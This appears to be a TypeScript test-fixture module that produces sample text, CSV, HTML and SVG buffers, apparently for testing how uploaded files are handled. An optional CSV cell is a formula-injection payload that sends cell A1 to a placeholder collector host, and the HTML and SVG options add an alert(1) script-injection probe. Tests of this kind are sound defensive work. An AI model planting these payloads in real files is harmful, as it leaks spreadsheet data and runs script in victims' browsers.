import { words } from './fill.ts'

/** Text of so many bytes. */
export function txt({ size = 88 }: { readonly size?: number | undefined }): Buffer {
  return Buffer.from(words(size))
}

/** A table; on demand with a cell that a spreadsheet would run. */
export function csv({ formulas = false }: { readonly formulas?: boolean | undefined }): Buffer {
  const cell = formulas ? '"=HYPERLINK(""http://collector.invalid/?""&A1)"' : 'two'
  return Buffer.from(`name,count\r\none,1\r\n${cell},2\r\n`)
}

/** A page with a heading. */
export function html({ script = false }: { readonly script?: boolean | undefined }): Buffer {
  const active = script ? '<script>alert(1)</script>' : ''
  return Buffer.from(
    `<!DOCTYPE html>\n<html><head><title>Rehearsal</title></head><body><h1>Rehearsal</h1>${active}</body></html>\n`,
  )
}

/** A drawing of a circle. */
export function svg({ script = false }: { readonly script?: boolean | undefined }): Buffer {
  const active = script ? '<script>alert(1)</script>' : ''
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${active}<circle cx="5" cy="5" r="4"/></svg>\n`,
  )
}
